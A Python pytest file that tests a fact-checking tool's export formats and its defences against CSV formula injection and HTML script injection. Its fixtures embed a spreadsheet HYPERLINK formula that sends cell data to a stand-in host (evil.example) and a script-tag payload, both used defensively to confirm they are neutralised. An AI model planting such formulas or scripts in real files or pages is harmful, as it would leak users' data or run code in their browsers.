"""Every export format parsed back and checked; formula and script injection neutralised."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest

from factdesk.core import jsonio
from factdesk.core.export import (
    CSV_COLUMNS,
    EXPORT_SCHEMA,
    FORMATS,
    ExportError,
    export,
    export_to_file,
    neutralise_cell,
)
from factdesk.core.facts import new_fact
from factdesk.core.model import ArticleSet, Derivation, Link

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
REPO = Path(__file__).resolve().parents[2]

# Call signature of the article-set builder fixture in conftest.py.
BuildSet = Callable[..., ArticleSet]


@pytest.fixture()
def article_set(build_set: BuildSet) -> ArticleSet:
    result = build_set(
        {
            "d0": [
                f"US strikes killed 16 militiamen {SCRIPT} on Thursday.",
                "The Pentagon said the strike was lawful.",
            ],
            "d1": [
                "US strikes killed 18 militiamen on Friday.",
                "The Pentagon said the strike was lawful.",
                "Iran condemned the strike.",
            ],
        },
        [[("d0", 0), ("d1", 0)], [("d0", 1), ("d1", 1)], [("d1", 2)]],
    )
    for doc in result.documents:
        doc.path, doc.title = f"/news/{doc.id}.txt", f"Story {doc.id}"
    result.links = [Link(a="d0.s0", b="d1.s0", score=0.8123, relation="same")]
    result.derivation = [Derivation(source="d0", derived="d1", share=0.7, score=0.9)]
    doc = result.documents[0]
    start = doc.text.index("US strikes")
    fact = new_fact(result, "d0", start, doc.text.index(" on Thursday"), statement=FORMULA)
    fact.status = "disputed"
    fact.origin = "d0"
    fact.note = "+sum(1)"
    fact.tags = ["casualties", "@risk"]
    result.facts.append(fact)
    second = new_fact(
        result, "d1", result.documents[1].text.index("Iran"), len(result.documents[1].text) - 1
    )
    second.id = "f2"
    result.facts.append(second)
    return result


def test_unknown_format_is_refused(article_set: ArticleSet) -> None:
    with pytest.raises(ExportError):
        export(article_set, "pdf")


def test_csv_has_one_row_per_fact_and_anchor_with_formulas_neutralised(
    article_set: ArticleSet,
) -> None:
    rows = list(csv.DictReader(io.StringIO(export(article_set, "csv"))))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert len(rows) == sum(len(f.anchors) for f in article_set.facts)
    first = rows[0]
    assert first["statement"] == "'" + FORMULA
    assert first["note"] == "'+sum(1)"
    assert first["tags"] == "casualties; @risk"
    assert first["origin_version"] == "d0.txt"
    other = next(r for r in rows if r["fact_id"] == "f1" and r["version"] == "d1.txt")
    assert other["relation"] == "same" and other["score"] == "0.8123"
    assert other["passage_text"] == "US strikes killed 18 militiamen on Friday."
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_neutralise_cell_leaves_plain_text_alone() -> None:
    assert neutralise_cell("plain") == "plain"
    assert neutralise_cell("-5") == "'-5"
    assert neutralise_cell("\tx") == "'\tx"
    assert neutralise_cell('  =HYPERLINK("http://x")') == '\'  =HYPERLINK("http://x")'
    assert neutralise_cell("＝1+1") == "'＝1+1"
    assert neutralise_cell("Called at 10:00 = fine") == "Called at 10:00 = fine"
    assert neutralise_cell(None) == ""


def test_json_follows_the_documented_schema(article_set: ArticleSet) -> None:
    data = json.loads(export(article_set, "json"))
    assert jsonio.validate(data, EXPORT_SCHEMA) == []
    assert jsonio.validate(data["article_set"]) == []
    assert data["version"] == 1
    assert [f["id"] for f in data["facts"]] == ["f1", "f2"]
    kinds = {c["kind"] for c in data["conflicts"]}
    assert {"number", "date", "insertion"} <= kinds
    assert data["facts"][0]["conflicts"], "the disputed fact touches the number conflict"
    assert any(s["kind"] == "number" for s in data["suggestions"])


def test_documented_schema_matches_the_code() -> None:
    doc = (REPO / "docs" / "export-json.md").read_text(encoding="utf-8")
    block = re.search(r"```json\n(.*?)\n```", doc, re.S)
    assert block is not None
    assert json.loads(block.group(1)) == json.loads(json.dumps(EXPORT_SCHEMA))


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []
        self.meta: list[dict[str, str | None]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)
        if tag == "meta":
            self.meta.append(dict(attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_report_is_inert_and_escapes_document_text(article_set: ArticleSet) -> None:
    html = export(article_set, "html")
    parsed = _Collector()
    parsed.feed(html)
    assert "script" not in parsed.tags
    assert not any(name.startswith("on") for name, _ in parsed.attrs)
    assert not any(
        name in {"src", "href"} and value and not value.startswith(("#", "url(#"))
        for name, value in parsed.attrs
    )
    csp = [
        m for m in parsed.meta if (m.get("http-equiv") or "").lower() == "content-security-policy"
    ]
    assert (
        csp and csp[0]["content"] == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    )
    text = "".join(parsed.text)
    assert SCRIPT in text  # shown as text, not run
    assert "&lt;script&gt;" in html
    assert FORMULA in text
    assert "Disputed" in text and "16 militiamen" in text
    assert "<svg" in html  # derivation graph drawn inline


def test_markdown_report_lists_facts_and_escapes_markup(article_set: ArticleSet) -> None:
    md = export(article_set, "md")
    assert "<script>" not in md
    assert "&lt;script&gt;" in md
    assert "### f1:" in md and "**Disputed**" in md
    assert "d0 → d1" in md or "d0 \\(d0.txt\\) → d1" in md or "→" in md


def test_web_annotations_carry_quote_and_position_selectors(article_set: ArticleSet) -> None:
    data = json.loads(export(article_set, "annotations"))
    assert data["type"] == "AnnotationCollection"
    items = data["first"]["items"]
    assert data["total"] == len(items) == sum(len(f.anchors) for f in article_set.facts)
    first = items[0]
    assert first["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert first["type"] == "Annotation"
    assert first["target"]["source"] == "/news/d0.txt"
    quote, position = first["target"]["selector"]
    anchor = article_set.facts[0].anchors[0]
    assert quote == {
        "type": "TextQuoteSelector",
        "exact": anchor.exact,
        "prefix": anchor.prefix,
        "suffix": anchor.suffix,
    }
    assert position == {"type": "TextPositionSelector", "start": anchor.start, "end": anchor.end}
    text = article_set.documents[0].text
    assert text[position["start"] : position["end"]] == quote["exact"]
    bodies = {b["purpose"]: b["value"] for b in first["body"] if b["purpose"] != "tagging"}
    assert bodies == {"describing": FORMULA, "assessing": "disputed", "commenting": "+sum(1)"}


def test_claimreview_covers_only_facts_with_a_verdict(article_set: ArticleSet) -> None:
    reviews = json.loads(export(article_set, "claimreview", author="Desk A"))
    assert len(reviews) == 1  # f2 is unreviewed
    review = reviews[0]
    assert review["@type"] == "ClaimReview" and review["@context"] == "https://schema.org"
    assert review["claimReviewed"] == FORMULA
    assert review["reviewRating"]["alternateName"] == "Disputed"
    assert review["author"] == {"@type": "Organization", "name": "Desk A"}
    assert re.fullmatch(r"\d{4}-\d\d-\d\d", review["datePublished"])
    names = [a["name"] for a in review["itemReviewed"]["appearance"]]
    assert names == ["d0.txt", "d1.txt"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_export_to_file_writes_the_same_text(
    article_set: ArticleSet, tmp_path: Path, fmt: str
) -> None:
    path = export_to_file(article_set, fmt, tmp_path / f"out.{fmt}")
    written = path.read_text(encoding="utf-8")
    if fmt == "json":
        assert json.loads(written)["facts"] == json.loads(export(article_set, fmt))["facts"]
    elif fmt in ("html", "md"):
        assert written.split("generated")[0] == export(article_set, fmt).split("generated")[0]
    else:
        assert written.replace("\r\n", "\n") == export(article_set, fmt).replace("\r\n", "\n")
    assert not list(tmp_path.glob(".*.tmp"))
